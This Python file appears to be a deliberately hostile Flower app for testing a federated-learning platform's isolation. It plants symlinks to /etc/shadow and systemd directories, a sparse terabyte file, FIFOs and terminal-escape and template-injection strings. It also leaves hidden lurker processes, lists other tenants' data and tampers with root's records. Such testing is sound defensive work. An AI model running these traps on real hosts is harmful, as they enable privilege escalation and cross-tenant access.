# Copyright: (c) 2026, fedops.flower contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A ServerApp and a ClientApp that try everything, and tell what they got."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp
from flwr.serverapp.strategy import FedAvg

from .probe import HOME, probe

LISTENER = "/run/loot"  # of the scenario's own: Flower gives the output of ServerApps to nobody
LURKS = 600  # seconds for which a process outlives its run
DEEP = 200_000
PR_SET_DUMPABLE, PR_SET_NAME = 4, 15  # linux/prctl.h
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e{{ lookup('pipe', 'touch /tmp/owned-by-template') }}"

server = ServerApp()
client = ClientApp()


def tell(who: str, got: dict[str, Any]) -> None:
    """Say what was got, in one line."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as speaker:
        speaker.connect(LISTENER)
        speaker.send(f"{json.dumps({'who': who, 'user': os.getuid(), 'got': got})}\n".encode())


def probed(context: Context) -> dict[str, list[str]]:
    """Try what can be reached from here."""
    ports = [int(port) for port in str(context.run_config["ports"]).split(",")]
    return probe(ports, str(context.run_config["doors"]).split(","))


@client.train()
def train(message: Message, context: Context) -> Message:
    """Answer with a model of one number, after a look around; leave processes behind."""
    outlive(hops=False)
    outlive(hops=True)
    got = probed(context)
    got["data of others"] = data_of_others(str(context.node_config.get("data-path", "")))
    got["apps of others"] = apps_of_others()
    tell("clientapp", got)
    content = RecordDict({"arrays": ArrayRecord([np.ones(1)]), "metrics": MetricRecord({"num-examples": 1})})
    return Message(content=content, reply_to=message)


def outlive(hops: bool) -> None:
    """Leave a process behind that C(/proc) hides, or one that is another one every few milliseconds."""
    if os.fork():
        return
    os.setsid()
    system = ctypes.CDLL(None)
    system.prctl(PR_SET_NAME, b"lurker", 0, 0, 0)
    if not hops:
        system.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    tell("lurker", {})
    end = time.monotonic() + LURKS
    while time.monotonic() < end:
        if hops and os.fork():
            os._exit(0)
        time.sleep(0.005 if hops else 1)
    os._exit(0)


def data_of_others(own: str) -> list[str]:
    """Return data that can be read and is not of this site."""
    found = [os.path.join(directory, name) for directory, _folders, names in os.walk(f"{HOME}/data") for name in names]
    return [path for path in found if own and not path.startswith(f"{own}/") and os.access(path, os.R_OK)]


def apps_of_others() -> list[str]:
    """Return apps that are kept for their next run and can be altered."""
    mine = Path(__file__).resolve().parents[1]
    kept = [
        *mine.parent.glob("*"),
        *Path(HOME).glob("supernodes/*/app/.flwr/apps/*"),
        *Path(HOME).glob("app/.flwr/*/*"),
    ]
    return sorted({str(path) for path in kept if path.resolve() != mine and os.access(path, os.W_OK)})


@server.main()
def main(grid: Grid, context: Context) -> None:
    """Look around, leave traps, leave a process behind, run a round, and end with an error."""
    if context.run_config["bystander"]:
        claim(context)
        return
    tell("serverapp", {**probed(context), "apps of others": apps_of_others(), "planted": plant()})
    lurk()
    FedAvg(fraction_evaluate=0.0).start(grid=grid, initial_arrays=ArrayRecord([np.zeros(1)]), num_rounds=1)
    print(f"The app says {ESCAPES}", flush=True)
    raise RuntimeError(f"{ESCAPES}\n" + ESCAPES * 200_000)


def claim(context: Context) -> None:
    """Claim that a process of root is the ServerApp of this run, and stay."""
    pid, ticks = (int(number) for number in str(context.run_config["bystander"]).split(","))
    folder = Path(os.environ.get("FEDOPS_TRAININGS_DIR", f"{HOME}/trainings")) / "claim"
    folder.mkdir(exist_ok=True)
    content = {"run_id": str(context.run_id), "process": {"pid": pid, "ticks": ticks}}
    (folder / "effective.json").write_text(json.dumps(content))
    time.sleep(LURKS)


def plant() -> list[str]:
    """Leave what root may stumble over where this app may write, and try the places where it must not."""
    folders = Path(os.environ.get("FEDOPS_TRAININGS_DIR", f"{HOME}/trainings"))
    traps: dict[str, Callable[[Path], Any]] = {
        "link": lambda folder: (folder / "effective.json").symlink_to("/etc/shadow"),
        "fifo": lambda folder: [os.mkfifo(folder / name) for name in ("effective.json", "history.jsonl")],
        "endless": lambda folder: (folder / "history.jsonl").symlink_to("/dev/zero"),
        "sparse": lambda folder: _sparse(folder / "history.jsonl"),
        "deep": lambda folder: (folder / "effective.json").write_text("[" * DEEP),
        "text": lambda folder: (folder / "effective.json").write_text(
            '{"run_id": "1", "run_config": "text", "pid": {}}'
        ),
        "directory": lambda folder: (folder / "result.json").mkdir(),
        "escapes\x1b[2J": lambda folder: (folder / "effective.json").write_text(json.dumps({"run_id": ESCAPES})),
    }
    for name, trap in traps.items():
        with contextlib.suppress(OSError):
            (folders / name).mkdir(parents=True, exist_ok=True)
            trap(folders / name)
    for folder in (Path(f"{HOME}/checkpoints"), *Path(f"{HOME}/checkpoints").glob("*")):
        with contextlib.suppress(OSError):
            (folder / "evil").symlink_to("/etc/systemd/system")

    orders: dict[str, Callable[[], Any]] = {
        "app record": lambda: Path(f"{HOME}/app/default.json").write_text('{"fab_file": "../../../etc/hostname"}'),
        "link for root": lambda: os.symlink("/etc/hostname", f"{HOME}/app/default.json.tmp"),
        "new record": lambda: Path(f"{HOME}/records/apps/owned.json").write_text("{}"),
        "registry": lambda: Path(f"{HOME}/records/supernodes.json").open("a").close(),
        "stop of another": lambda: Path(f"{HOME}/trainings/default/stopped").touch(),
        "request of another": lambda: Path(f"{HOME}/trainings/default/request.json").open("a").close(),
        "quiescence": lambda: Path(f"{HOME}/trainings/quiesced.json").touch(),
        "command line": lambda: Path(f"{HOME}/control/.flwr/config.toml").open("a").close(),
        "home": lambda: os.rename(f"{HOME}/app", f"{HOME}/app-mine"),
    }
    got = []
    for name, order in orders.items():
        with contextlib.suppress(OSError):
            order()
            got.append(name)
    return got


def _sparse(path: Path) -> None:
    with path.open("w") as stream:
        stream.truncate(1 << 40)


def lurk() -> None:
    """Leave a process behind that exchanges whatever root stages below the home, and tells it."""
    if os.fork():
        return
    os.setsid()
    end, told = time.monotonic() + LURKS, set()
    while time.monotonic() < end:
        for folder in (f"{HOME}/app", f"{HOME}/trainings", f"{HOME}/records"):
            with contextlib.suppress(OSError):
                for name in os.listdir(folder):
                    path = os.path.join(folder, name)
                    os.rename(path, f"{path}~")
                    os.rename(f"{path}~", path)
                    if path not in told:
                        tell("lurker", {"renamed": [path]})
                        told.add(path)
        time.sleep(0.02)
    os._exit(0)
